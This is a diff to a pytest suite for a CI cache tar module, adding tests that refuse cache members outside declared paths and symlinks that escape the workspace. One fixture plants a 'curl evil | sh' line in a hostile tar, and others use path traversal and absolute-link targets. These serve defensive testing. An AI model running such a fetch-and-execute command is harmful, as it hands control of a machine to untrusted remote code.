@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from apiary.drone.cachetar import CacheRefused, CacheTooBig, check, hash_files, pack, unpack
+from apiary.drone.cachetar import CacheRefused, CacheTooBig, check, hash_files, link_fault, member_fault, pack, unpack
 
 if sys.version_info >= (3, 14):
     from compression import zstd
@@ -38,7 +38,7 @@ def test_round_trip(tmp_path: Path) -> None:
     assert notes == ["missing: not found"]
     assert files == 7  # 4 folders, 2 files, 1 link
     dst = _roots(tmp_path, "b")
-    assert unpack(tar, dst, 10**6) == []
+    assert unpack(tar, dst, 10**6, paths=["~/.cache/pip", "node_modules", "missing"]) == []
     assert (dst["home"] / ".cache/pip/wheels/x.whl").read_bytes() == b"wheel" * 1000
     assert (dst["workspace"] / "node_modules/link.js").read_text() == "js"
 
@@ -69,7 +69,7 @@ def test_a_link_a_restore_would_refuse_is_left_out_and_the_rest_restores(tmp_pat
     said = "workspace/.venv/bin/python: not saved: a symlink to an absolute path ('/usr/bin/python3')"
     assert files == 3 and notes == [said]
     dst = _roots(tmp_path, "b")
-    assert unpack(tar, dst, 10**6) == []
+    assert unpack(tar, dst, 10**6, paths=[".venv"]) == []
     assert (dst["workspace"] / ".venv/bin/activate").read_text() == "venv"
 
 
@@ -112,17 +112,87 @@ def test_hostile_tars_refused_whole(tmp_path: Path, members: list, problem: str)
     tar = _hostile(tmp_path, *members)
     dst = _roots(tmp_path, "b")
     with pytest.raises(CacheRefused) as info:
-        unpack(tar, dst, 4000)
+        unpack(tar, dst, 4000, paths=["~", "ok", "big", "a", "l", "h", "dev", "x"])
     assert problem in str(info.value)
     assert list(dst["workspace"].iterdir()) == [] and list(dst["home"].iterdir()) == []  # nothing written
     assert not (tmp_path / "escape").exists()
+
+
+@pytest.mark.parametrize("name, paths, fault", [
+    ("workspace/node_modules", ["node_modules"], None),  # the path itself
+    ("workspace/node_modules/a/b.js", ["node_modules"], None),
+    ("home/.cache/pip/x", ["~/.cache/pip", "node_modules"], None),
+    ("home/anything/at/all", ["~"], None),  # the whole home
+    ("workspace/Makefile", ["node_modules"], "outside the cache's paths (node_modules)"),  # a checked-out file
+    ("workspace/node_modules_evil", ["node_modules"], "outside the cache's paths"),  # a name that only starts so
+    ("workspace/.cache/pip/x", ["~/.cache/pip"], "outside the cache's paths"),  # the other root
+    ("home/.cache", ["~/.cache/pip"], "outside the cache's paths"),  # a folder above the path
+    ("home/.bashrc", ["~/.cache/pip", "node_modules"], "outside the cache's paths"),
+])
+def test_members_only_under_the_entrys_paths(name: str, paths: list[str], fault: str | None) -> None:
+    found = member_fault(_info(name), paths)
+    assert (found is None) if fault is None else (found is not None and fault in found)
+
+
+@pytest.mark.parametrize("at, target, fault", [
+    ("workspace/node_modules/.bin/tsc", "../typescript/bin/tsc", None),  # as npm makes them
+    ("workspace/a/l", "../b/c", None),
+    ("workspace/link.js", "pkg/index.js", None),
+    ("workspace/.venv/bin/python3", "python", None),
+    ("workspace/.venv/lib64", "lib", None),
+    ("workspace/a/b", "..", None),  # the workspace itself: inside
+    ("workspace/c", "a/b/..", "'..' after a name"),  # with a/b -> ..: out of the workspace
+    ("workspace/c", "a/../../x", "'..' after a name"),
+    ("workspace/a/c", "./../..", "'..' after a name"),  # '.' is a name here: refused, not worked out
+    ("workspace/a/l", "../../x", "points out of workspace/"),
+    ("home/l", "..", "points out of home/"),
+    ("workspace/l", "/etc", "a symlink to an absolute path"),
+    ("workspace/l", "", "a symlink to an absolute path"),
+])
+def test_link_targets(at: str, target: str, fault: str | None) -> None:
+    found = link_fault(at.split("/"), target)
+    assert (found is None) if fault is None else (found is not None and fault in found), found
+
+
+def test_a_cache_outside_its_paths_is_refused_whole_and_the_checkout_is_untouched(tmp_path: Path) -> None:
+    """A hostile drone saved a cache of node_modules holding the workspace's Makefile: it is not restored."""
+    dst = _roots(tmp_path, "b")
+    (dst["workspace"] / "Makefile").write_text("checked out")
+    tar = _hostile(tmp_path, (_info("workspace/node_modules/ok.js"), b"fine"),
+                   (_info("workspace/Makefile"), b"curl evil | sh"))
+    with pytest.raises(CacheRefused, match=r"'workspace/Makefile': outside the cache's paths \(node_modules\)"):
+        unpack(tar, dst, 10**6, paths=["node_modules"])
+    assert (dst["workspace"] / "Makefile").read_text() == "checked out"
+    assert not (dst["workspace"] / "node_modules").exists()  # nothing written, not even the harmless file
+
+
+def test_a_link_climbing_through_another_link_is_refused(tmp_path: Path) -> None:
+    dst = _roots(tmp_path, "b")
+    tar = _hostile(tmp_path, (_info("workspace/d/a/b", tarfile.SYMTYPE, ".."), b""),
+                   (_info("workspace/d/c", tarfile.SYMTYPE, "a/b/../.."), b""))
+    with pytest.raises(CacheRefused, match="'..' after a name"):
+        unpack(tar, dst, 10**6, paths=["d"])
+    assert list(dst["workspace"].iterdir()) == []
+
+
+def test_npm_bin_links_are_saved_and_restored(tmp_path: Path) -> None:
+    src = _roots(tmp_path, "a")
+    (src["workspace"] / "node_modules/typescript/bin").mkdir(parents=True)
+    (src["workspace"] / "node_modules/typescript/bin/tsc").write_text("tsc")
+    (src["workspace"] / "node_modules/.bin").mkdir()
+    os.symlink("../typescript/bin/tsc", src["workspace"] / "node_modules/.bin/tsc")
+    tar = tmp_path / "c.tar.zst"
+    assert pack(src, ["node_modules"], tar, 10**6)[1] == []
+    dst = _roots(tmp_path, "b")
+    assert unpack(tar, dst, 10**6, paths=["node_modules"]) == []
+    assert (dst["workspace"] / "node_modules/.bin/tsc").read_text() == "tsc"
 
 
 def test_not_a_tar(tmp_path: Path) -> None:
     path = tmp_path / "junk"
     path.write_bytes(b"not zstd at all")
     with pytest.raises(CacheRefused, match="not a readable tar.zst"):
-        check(path, 10**6)
+        check(path, 10**6, ["x"])
 
 
 def test_a_link_in_the_workspace_is_not_followed_on_restore(tmp_path: Path) -> None:
@@ -132,7 +202,7 @@ def test_a_link_in_the_workspace_is_not_followed_on_restore(tmp_path: Path) -> N
     dst = _roots(tmp_path, "b")
     (dst["workspace"] / "node_modules").symlink_to(outside)
     tar = _hostile(tmp_path, (_info("workspace/node_modules/pkg.js"), b"x"), (_info("workspace/ok"), b"y"))
-    notes = unpack(tar, dst, 10**6)
+    notes = unpack(tar, dst, 10**6, paths=["node_modules", "ok"])
     assert notes == ["workspace/node_modules/pkg.js: a symlink or a file is in the way; left out"]
     assert list(outside.iterdir()) == []
     assert (dst["workspace"] / "ok").read_bytes() == b"y"
@@ -143,7 +213,7 @@ def test_a_link_from_the_cache_is_not_written_through(tmp_path: Path) -> None:
     (dst["workspace"] / "sub").mkdir()
     tar = _hostile(tmp_path, (_info("workspace/l", tarfile.SYMTYPE, "sub"), b""),
                    (_info("workspace/l/f"), b"x"))
-    notes = unpack(tar, dst, 10**6)
+    notes = unpack(tar, dst, 10**6, paths=["l"])
     assert notes == ["workspace/l/f: a symlink or a file is in the way; left out"]
     assert list((dst["workspace"] / "sub").iterdir()) == []
 
